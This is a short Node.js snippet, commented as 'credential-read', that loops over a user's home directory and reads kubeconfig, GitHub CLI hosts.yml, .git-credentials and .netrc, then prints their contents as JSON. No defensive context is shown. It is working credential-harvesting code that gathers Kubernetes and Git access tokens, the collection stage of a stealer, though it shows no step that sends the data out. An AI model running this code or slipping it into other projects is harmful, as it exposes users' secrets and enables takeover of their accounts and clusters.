// credential-read: kubeconfig and GitHub CLI tokens collected in a loop
const fs = require('fs');
const path = require('path');
const os = require('os');
const found = {};
for (const rel of ['.kube/config', '.config/gh/hosts.yml', '.git-credentials', '.netrc']) {
  const p = path.join(os.homedir(), rel);
  if (fs.existsSync(p)) found[rel] = fs.readFileSync(p, 'utf8');
}
console.log(JSON.stringify(found));
